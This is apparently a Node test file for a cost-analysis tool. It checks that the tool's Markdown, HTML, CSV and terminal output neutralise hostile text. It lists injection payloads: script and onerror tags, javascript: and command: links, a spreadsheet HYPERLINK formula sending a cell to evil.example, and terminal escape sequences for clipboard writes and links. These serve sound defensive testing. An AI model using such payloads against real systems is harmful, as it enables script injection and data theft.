/**
 * Text that comes from model outputs, servers or workspace files — model names, file paths, prompts, answers, error
 * messages, reasons, assumptions, feature names — is inert in every renderer that shows it:
 *
 *   renderComparisonMarkdown (compare export), renderReportMarkdown / renderReportHtml / renderReportCsv (report),
 *   renderScanMarkdown (scan --format markdown), explainMarkdown (hover, tree tooltip, inlay-hint tooltip: trusted
 *   Markdown in which the costlens commands may run, so a payload must never become a clickable `command:` link).
 *
 * Two sources of hostile text:
 *   1. a real scan of a project whose model literal, file name, prompt expression, feature and price entries carry
 *      payloads (`<script>`, `<img onerror>`, `[click](javascript:…)`, `](command:…)`, backticks and pipes);
 *   2. every string field of the renderers' inputs, replaced in turn by each payload (and all at once).
 *
 * The CLI's terminal output (tables, Markdown to stdout, progress on stderr) gets no escape sequence from a model
 * answer, a server error, a file name or a model literal: OSC 52 (clipboard), OSC 8 (links), cursor moves, carriage
 * returns are shown as `\xNN`.
 *
 * Markdown is checked by rendering it with markdown-it (raw HTML allowed and every link target accepted: the most
 * permissive reading) and looking at what comes out: no element outside the renderer's own vocabulary (no script,
 * img, a, iframe …), no event-handler attribute, no link, no HTML comment, and every table row with as many cells as
 * its header. HTML is checked the same way on the page itself.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { renderComparisonMarkdown } from '../../src/core/compare/exportMarkdown';
import { resolveTarget, resolveTargets } from '../../src/core/compare/providers';
import { summariseComparison } from '../../src/core/compare/runner';
import type { CompareRequest, ComparisonResult, RunResult } from '../../src/core/compare/types';
import type { EstimatedCallSite, ScanResult } from '../../src/core/engine/engine';
import { createPriceCatalogue } from '../../src/core/pricing/catalogue';
import { explainMarkdown } from '../../src/core/report/explain';
import { renderReportCsv, renderReportHtml, renderReportMarkdown } from '../../src/core/report/renderReport';
import { buildReport, type Report } from '../../src/core/report/reportModel';
import { renderScanMarkdown } from '../../src/core/report/scanOutput';
import { parseUsageFile } from '../../src/core/usage/usageFile';
import { compareCommand } from '../../src/cli/compare';
import type { CliIo } from '../../src/cli/common';
import { scanCommand } from '../../src/cli/scan';
import { startFakeOpenAiServer } from '../support/fakeOpenAiServer';
import { removeProject, scanFiles, writeProject } from './helpers/tempProject';

// markdown-it comes with the devDependencies (through @vscode/vsce); it has no types here.
interface MarkdownToken {
  type: string;
  content: string;
  children: MarkdownToken[] | null;
}
interface MarkdownIt {
  render(src: string): string;
  parse(src: string, env: object): MarkdownToken[];
  validateLink: (url: string) => boolean;
}
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownItCtor = require('markdown-it') as new (options: object) => MarkdownIt;
const markdown = new MarkdownItCtor({ html: true, linkify: false });
markdown.validateLink = () => true; // show every link the text creates, whatever its scheme

/** What an attacker would put into a model name, a file name, a prompt, an answer or an error message. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  '](command:workbench.action.terminal.new)',
  '[Set traffic…](command:costlens.setTraffic?%5B%22x%22%5D)',
  'x`[run](command:costlens.applySuggestion?%5B%5D)`y',
  '``` [a](javascript:alert(2)) `',
  '```\n<script>alert(3)</script>\n```',
  'a | b || c\n| --- | --- |\n# heading',
  '![pixel](http://127.0.0.1:9/p.png)',
  '<https://evil.example/> <javascript:alert(4)>',
  '<!-- everything after this is hidden',
  '\\[x](javascript:alert(5))',
  '[x]: javascript:alert(6)\n[x]',
  '<a href="javascript:alert(7)">x</a><iframe src="javascript:alert(8)"></iframe>',
  '<details open><summary>x</summary><svg onload=alert(9)>',
];

/** Elements the Markdown renderers produce themselves (tables, lists, emphasis, code, `<details>` in reports). */
const MARKDOWN_TAGS = new Set(['p', 'strong', 'em', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'ol', 'li', 'br', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'hr', 'details', 'summary', 's']);

const figures = { renders: 0, payloadsTried: PAYLOADS.length, fieldsMutated: 0, problems: [] as string[] };
after(() => console.log(`[escaping] ${figures.payloadsTried} payloads × fields: ${figures.fieldsMutated} field mutations, ${figures.renders} renders checked, ${figures.problems.length} problems`));

/** Cells of a Markdown table row: pipes not escaped by a backslash, minus the outer two. */
function pipeCount(line: string): number {
  let n = 0;
  for (let i = 0; i < line.length; i++) {
    if (line[i] !== '|') continue;
    let slashes = 0;
    for (let j = i - 1; j >= 0 && line[j] === '\\'; j--) slashes++;
    if (slashes % 2 === 0) n++;
  }
  return n;
}

/** Problems of a Markdown text: live HTML, links, images, comments, broken tables. */
export function markdownProblems(md: string): string[] {
  const problems: string[] = [];
  const html = markdown.render(md);
  for (const m of html.matchAll(/<\/?([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const tag = m[1]!.toLowerCase();
    if (!MARKDOWN_TAGS.has(tag)) problems.push(`element <${tag}> in the rendered output`);
    if (/\son[a-z]+\s*=/i.test(m[2]!)) problems.push(`event handler on <${tag}>`);
    if (/\s(href|src|action|xlink:href)\s*=/i.test(m[2]!)) problems.push(`link target on <${tag}>: ${m[2]!.trim().slice(0, 80)}`);
  }
  if (/<!--/.test(html)) problems.push('an HTML comment (hides what follows)');
  // Raw HTML the parser let through (the renderers' own <details>/<summary> excepted).
  const walk = (tokens: MarkdownToken[]): void => {
    for (const t of tokens) {
      if ((t.type === 'html_inline' || t.type === 'html_block') && /<(?!\/?(details|summary)\b)[a-z!/]/i.test(t.content)) problems.push(`unescaped HTML: ${t.content.trim().slice(0, 60)}`);
      if (t.type === 'link_open' || t.type === 'image') problems.push(`a ${t.type === 'image' ? 'image' : 'link'} was created`);
      if (t.children) walk(t.children);
    }
  };
  walk(markdown.parse(md, {}));
  // Tables: outside fenced blocks, every row has the header's cells, and a table ends at a blank line.
  const lines = md.split('\n');
  let fence: string | null = null;
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!;
    const f = /^(`{3,})/.exec(line);
    if (f && (fence === null || f[1]!.length >= fence.length)) {
      fence = fence === null ? f[1]! : null;
      continue;
    }
    if (fence !== null || !line.startsWith('|') || (i > 0 && lines[i - 1]!.startsWith('|'))) continue;
    const width = pipeCount(line);
    let j = i;
    for (; j < lines.length && lines[j]!.startsWith('|'); j++) if (pipeCount(lines[j]!) !== width) problems.push(`table row ${j + 1} has ${pipeCount(lines[j]!) - 1} cells, its header ${width - 1}`);
    if (j < lines.length && lines[j] !== '') problems.push(`table at line ${i + 1} is followed by a stray line: ${lines[j]!.slice(0, 60)}`);
  }
  return problems;
}

/** Problems of an HTML page made by renderReportHtml: elements outside its vocabulary, handlers, links, comments. */
function htmlProblems(page: string, vocabulary: Set<string>): string[] {
  const problems: string[] = [];
  for (const m of page.matchAll(/<\/?([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const tag = m[1]!.toLowerCase();
    if (!vocabulary.has(tag)) problems.push(`element <${tag}>`);
    if (/\son[a-z]+\s*=/i.test(m[2]!)) problems.push(`event handler on <${tag}>`);
    if (/\s(href|src|action|xlink:href|srcdoc)\s*=/i.test(m[2]!)) problems.push(`link target on <${tag}>`);
  }
  if (/<!--/.test(page)) problems.push('an HTML comment');
  if ((page.match(/<meta http-equiv="Content-Security-Policy"/g) ?? []).length !== 1) problems.push('the CSP meta tag is missing or doubled');
  return problems;
}

function check(where: string, problems: string[]): void {
  figures.renders++;
  if (problems.length) figures.problems.push(`${where}: ${problems[0]}`);
  assert.deepEqual(problems, [], where);
}

// ---------------------------------------------------------------------------------------------------------------
// Field mutation: every string leaf of an input, in turn, becomes a payload
// ---------------------------------------------------------------------------------------------------------------

type Path = Array<string | number>;

/** Keys whose values are enumerations in the types (a payload there is not a value the program can hold). */
const ENUM_KEYS = new Set(['category', 'kind', 'confidence', 'context', 'groupedBy', 'trafficSource', 'role', 'sdk', 'api', 'language', 'status', 'source', 'outputSource', 'inputSource', 'reason', 'type']);

/**
 * Dates costlens makes itself (its clock, the bundled price data's date, the date a provider rule was checked): no
 * model, server or workspace file can set them.
 */
const GENERATED_KEYS = new Set(['generatedAt', 'startedAt', 'finishedAt', 'sourceDate', 'checked']);

function stringPaths(value: unknown, path: Path = [], out: Path[] = []): Path[] {
  if (typeof value === 'string') {
    const key = path[path.length - 1];
    if (typeof key === 'string' && GENERATED_KEYS.has(key)) return out;
    // `source`/`reason` are free text in some places: keep them unless they are enum-like in the type.
    if (typeof key === 'string' && ENUM_KEYS.has(key) && /^[a-z-]+$/.test(value)) return out;
    out.push(path);
  } else if (Array.isArray(value)) value.forEach((v, i) => stringPaths(v, [...path, i], out));
  else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) stringPaths(v, [...path, k], out);
  return out;
}

function withValue<T>(value: T, path: Path, replacement: string): T {
  const copy = structuredClone(value) as Record<string | number, unknown>;
  let node = copy as Record<string | number, unknown>;
  for (const k of path.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
  node[path[path.length - 1]!] = replacement;
  return copy as T;
}

function everyString<T>(value: T, replacement: string): T {
  let out = value;
  for (const p of stringPaths(value)) out = withValue(out, p, replacement);
  return out;
}

/** Renders `value` with each payload in each string field (and in all fields at once) and checks each output. */
function mutateAndCheck<T>(label: string, value: T, render: (v: T) => string, problemsOf: (text: string) => string[] = markdownProblems): void {
  check(`${label} (as is)`, problemsOf(render(value)));
  const work = structuredClone(value);
  const paths = stringPaths(work);
  assert.ok(paths.length > 0);
  for (const payload of PAYLOADS) {
    check(`${label}, every field = ${JSON.stringify(payload)}`, problemsOf(render(everyString(value, payload))));
    for (const p of paths) {
      figures.fieldsMutated++;
      // in place, then put back (a copy per mutation would be most of the time spent)
      let node = work as Record<string | number, unknown>;
      for (const k of p.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
      const key = p[p.length - 1]!;
      const saved = node[key];
      node[key] = payload;
      try {
        check(`${label}, ${p.join('.')} = ${JSON.stringify(payload)}`, problemsOf(render(work)));
      } finally {
        node[key] = saved;
      }
    }
  }
}

// ---------------------------------------------------------------------------------------------------------------
// A hostile project, scanned for real
// ---------------------------------------------------------------------------------------------------------------

const MODEL_PAYLOAD = '<script>alert(1)</script>[click](javascript:alert(1))](command:workbench.action.terminal.new)`|';
const FILE_PAYLOAD = 'x`[a](command:costlens.setTraffic)`|<img src=x onerror=alert(1)>.py';
const FEATURE_PAYLOAD = '<b>chat</b>[x](javascript:alert(1))';
const USAGE_YML = `version: 1
features:
  ${JSON.stringify(FEATURE_PAYLOAD)}:
    description: "<script>alert(2)</script> | pipe [x](command:workbench.action.terminal.new) \`tick"
    callSites: "app.py#*"
prices:
  - model: ${JSON.stringify(MODEL_PAYLOAD)}
    inputPerMTok: 1
    outputPerMTok: 2
`;

let scan: ScanResult;
let report: Report;
before(async () => {
  scan = await scanFiles({
    'app.py': [
      'from openai import OpenAI',
      'client = OpenAI()',
      '',
      'def answer(q):',
      `    return client.chat.completions.create(model=${JSON.stringify(MODEL_PAYLOAD)}, messages=[{"role": "user", "content": f"Q: {q['\`[x](command:costlens.setTraffic)\`']}"}])`,
      '',
    ].join('\n'),
    [FILE_PAYLOAD]: 'from openai import OpenAI\nclient = OpenAI()\nclient.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "hi"}])\n',
    'costlens.yml': USAGE_YML,
  });
  const usage = parseUsageFile(USAGE_YML, 'costlens.yml');
  assert.ok(usage.ok);
  report = buildReport(scan, usage.config, { generatedAt: '2026-01-01T00:00:00.000Z', workspace: '<b>ws</b>', toolVersion: '0.1.0' });
});

describe('a project whose model, file name, prompt, feature and prices carry payloads', () => {
  test('the payloads reached the data (model literal, file path, prompt expression, feature, price entry)', () => {
    const hostile = scan.callSites.find((s) => s.file === 'app.py')!;
    assert.equal(hostile.model.resolved, MODEL_PAYLOAD);
    assert.equal(hostile.estimate!.price!.model, MODEL_PAYLOAD, 'priced by the costlens.yml entry of the same name');
    assert.equal(hostile.estimate!.feature, FEATURE_PAYLOAD);
    assert.ok(hostile.estimate!.assumptions.some((a) => a.includes('command:costlens.setTraffic')), 'the prompt expression is quoted in an assumption');
    assert.ok(scan.callSites.some((s) => s.file === FILE_PAYLOAD));
  });

  test('hover / tooltip (explainMarkdown): no command or javascript link, no raw HTML, the table intact', () => {
    for (const site of scan.callSites) {
      const md = explainMarkdown(site);
      check(`explain ${site.id}`, markdownProblems(md));
      // The payload is shown, as text.
      const text = markdown.render(md);
      if (site.file === 'app.py') assert.match(text, /&lt;script&gt;alert\(1\)&lt;\/script&gt;\[click\]\(javascript:alert\(1\)\)/);
      else assert.match(text, /&lt;img src=x onerror=alert\(1\)&gt;\.py/);
    }
  });

  test('report Markdown and HTML, scan Markdown', () => {
    check('report Markdown', markdownProblems(renderReportMarkdown(report)));
    const page = renderReportHtml(report);
    check('report HTML', htmlProblems(page, vocabularyOf(page)));
    assert.ok(page.includes('&lt;script&gt;alert(1)&lt;/script&gt;'), 'the model name is shown, escaped');
    assert.ok(page.includes('&lt;img src=x onerror=alert(1)&gt;.py'), 'the file name is shown, escaped');
    assert.doesNotMatch(page, /<script|<img|<b>/i);
    check('scan Markdown', markdownProblems(renderScanMarkdown(scan)));
  });

  test('report CSV: payload cells stay in their column; a formula is not run by a spreadsheet', () => {
    const formulaSite = withValue(report, ['sites', 0, 'model'], '=HYPERLINK("http://evil.example/?"&A1,"click")');
    const csv = renderReportCsv(formulaSite);
    assert.match(csv, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",/);
    for (const payload of PAYLOADS) {
      const rows = renderReportCsv(everyString(report, payload)).trimEnd().split('\r\n');
      figures.renders++;
      // every row has the header's 23 columns (quoted newlines and commas do not split cells)
      // Commas outside quotes separate cells ("" inside a quoted cell toggles twice); a trailing empty cell counts.
      const cells = (row: string): number => {
        let n = 1;
        let quoted = false;
        for (const ch of row) {
          if (ch === '"') quoted = !quoted;
          else if (ch === ',' && !quoted) n++;
        }
        return n;
      };
      assert.ok(rows.length >= 1);
      const parsedRows = renderReportCsv(everyString(report, payload)).split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter(Boolean);
      for (const row of parsedRows) assert.equal(cells(row), cells(parsedRows[0]!), `${JSON.stringify(payload)}: ${row.slice(0, 80)}`);
    }
  });
});

/** The elements renderReportHtml uses for a report: those of a clean page. */
let htmlVocabulary: Set<string> | undefined;
function vocabularyOf(_page: string): Set<string> {
  if (!htmlVocabulary) {
    const clean = everyString(report, 'plain');
    htmlVocabulary = new Set([...renderReportHtml(clean).matchAll(/<\/?([a-zA-Z][\w:-]*)/g)].map((m) => m[1]!.toLowerCase()));
  }
  return htmlVocabulary;
}

describe('every string field of every renderer input, replaced by each payload', () => {
  test('explainMarkdown (hover): each field of each call site', () => {
    for (const site of scan.callSites) mutateAndCheck<EstimatedCallSite>(`explain ${site.file}`, site, (s) => explainMarkdown(s));
  });

  test('renderReportMarkdown and renderReportHtml: each field of the report', () => {
    mutateAndCheck<Report>('report Markdown', report, (r) => renderReportMarkdown(r));
    mutateAndCheck<Report>('report HTML', report, (r) => renderReportHtml(r), (page) => htmlProblems(page, vocabularyOf(page)));
  });

  test('renderScanMarkdown: each field of the scan', () => {
    mutateAndCheck<ScanResult>('scan Markdown', scan, (s) => renderScanMarkdown(s));
  });

  test('renderComparisonMarkdown (compare export): answers, model names, errors, judge reasons, checks, notes', () => {
    const prices = createPriceCatalogue({ overrides: [{ model: 'gpt-4o-mini', inputPerMTok: 0.15, outputPerMTok: 0.6, source: 'test prices' }] });
    const judge = resolveTarget('gpt-4o', {});
    assert.ok(judge.ok);
    const request: CompareRequest = {
      messages: [
        { role: 'system', content: 'Label the ticket.' },
        { role: 'user', content: 'My printer | is on `fire` <script>alert(1)</script>' },
      ],
      targets: resolveTargets(['gpt-4o-mini', 'ollama/llama3.1:8b'], { prices }).targets,
      runs: 1,
      maxOutputTokens: 64,
      currentModel: 'gpt-4o-mini',
      requestsPerMonth: 1000,
      siteId: 'app.py#answer#0',
      quality: { checks: [{ kind: 'contains', expected: 'hardware' }], expectedAnswer: 'hardware', judge: { target: judge.target, rubric: 'Is it [right](javascript:alert(1))?' } },
    };
    const ok: RunResult = {
      model: 'gpt-4o-mini',
      run: 1,
      status: 'ok',
      output: 'hardware <script>alert(1)</script> [click](javascript:alert(1)) ```',
      finishReason: 'length',
      streamed: true,
      ttftMs: 100,
      latencyMs: 500,
      attempts: 1,
      waitedMs: 0,
      usage: { inputTokens: 10, outputTokens: 5, cachedInputTokens: 0, reasoningTokens: null, source: 'reported' },
      costUsd: 0.00001,
      notes: ['a note'],
      quality: { checks: [{ kind: 'contains', label: 'contains "hardware"', passed: false, detail: 'not found in the answer' }], passed: false, judge: { model: 'gpt-4o (judge)', score: 3, reason: 'it said <img src=x onerror=alert(1)>', reply: 'Score: 3', costUsd: 0.00002 } },
    };
    const failed: RunResult = { ...ok, model: request.targets[1]!.id, status: 'error', output: '', usage: null, costUsd: null, quality: undefined, error: { kind: 'server', status: 500, message: '500: Server said: <script>alert(1)</script>' } };
    const result: ComparisonResult = summariseComparison(request, [ok, failed], { id: 'c', startedAt: '2026-01-01T00:00:00.000Z', finishedAt: '2026-01-01T00:00:01.000Z', durationMs: 1000, cancelled: false, prices });
    const md = renderComparisonMarkdown(result);
    check('compare export (as is)', markdownProblems(md));
    assert.ok(md.includes('````text\nhardware <script>alert(1)</script> [click](javascript:alert(1)) ```\n````'), 'the answer is quoted verbatim in a fence longer than its backticks');
    mutateAndCheck<ComparisonResult>('compare export', result, (r) => renderComparisonMarkdown(r));
  });
});

// ---------------------------------------------------------------------------------------------------------------
// The terminal
// ---------------------------------------------------------------------------------------------------------------

/** Escape sequences and control characters that act on a terminal (our own colours, SGR `ESC[…m`, excepted). */
const TERMINAL_ATTACKS = ['\x1b]52;c;ZWNobyBwd25lZA==\x07', '\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07', '\x1b[2J\x1b[H', 'hidden\rvisible', '\x1b[8m', '\u009b31m', '\x07'];

function terminalProblems(text: string): string[] {
  const stripped = text.replace(/\x1b\[[0-9;]*m/g, '');
  const found = [...stripped.matchAll(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g)].map((m) => JSON.stringify(m[0]));
  return found.length ? [`control characters reach the terminal: ${[...new Set(found)].join(' ')}`] : [];
}

describe('the CLI prints no escape sequence from data', () => {
  test('costlens compare: answers, server errors, stderr progress; JSON keeps the text exactly', async () => {
    const answer = `Sure.${TERMINAL_ATTACKS.join(' ')} Done.`;
    const server = await startFakeOpenAiServer({
      behaviours: {
        good: { reply: answer, usage: { prompt_tokens: 3, completion_tokens: 3 } },
        bad: { fail: { status: 400, message: `invalid request ${TERMINAL_ATTACKS.join(' ')}` } },
      },
    });
    const dir = writeProject({ 'p.txt': 'Hello' });
    try {
      for (const format of ['table', 'markdown', 'json']) {
        let stdout = '';
        let stderr = '';
        const io: CliIo = {
          stdout: { write: (t: string) => ((stdout += t), true) } as unknown as NodeJS.WritableStream,
          stderr: { isTTY: true, write: (t: string) => ((stderr += t), true) } as unknown as NodeJS.WritableStream,
          cwd: dir,
          env: {},
        };
        assert.equal(await compareCommand(['--prompt', 'p.txt', '--models', 'good,bad', '--base-url', server.baseURL, '--format', format], io), 0, stderr);
        check(`compare --format ${format}: stdout`, terminalProblems(stdout));
        check(`compare --format ${format}: stderr`, terminalProblems(stderr));
        if (format === 'json') {
          const json = JSON.parse(stdout) as { result: ComparisonResult };
          assert.equal(json.result.models[0]!.runs[0]!.output, answer, 'JSON carries the answer exactly');
        } else assert.match(stdout, /\\x1b\]52;c;/, 'the sequence is shown, inert');
      }
    } finally {
      removeProject(dir);
      await server.close();
    }
  });

  test('costlens scan: file names and model literals with escape sequences, in colour and in Markdown', async () => {
    const dir = writeProject({
      [`app${'\x1b[2J'}\x1b]8;;http:\u002f\u002fevil\x07.py`.replace(/\//g, '_')]: `from openai import OpenAI\nc = OpenAI()\nc.chat.completions.create(model="gpt-4o${'\x1b]52;c;ZXZpbA==\x07'}", messages=[])\n`,
    });
    try {
      for (const [format, tty] of [['table', true], ['table', false], ['markdown', false]] as const) {
        let stdout = '';
        const io: CliIo = { stdout: { isTTY: tty, write: (t: string) => ((stdout += t), true) } as unknown as NodeJS.WritableStream, stderr: { write: () => true } as unknown as NodeJS.WritableStream, cwd: dir, env: {} };
        const saved = process.env.NO_COLOR;
        delete process.env.NO_COLOR;
        try {
          assert.equal(await scanCommand(['--root', dir, '--format', format, '--quiet'], io), 0);
        } finally {
          if (saved !== undefined) process.env.NO_COLOR = saved;
        }
        assert.match(stdout, /\\x1b\\?\]52;c;ZXZpbA==\\x07/, `${format}: the model literal is shown, inert`);
        check(`scan --format ${format}${tty ? ' (colour)' : ''}`, terminalProblems(stdout));
      }
    } finally {
      removeProject(dir);
    }
  });
});
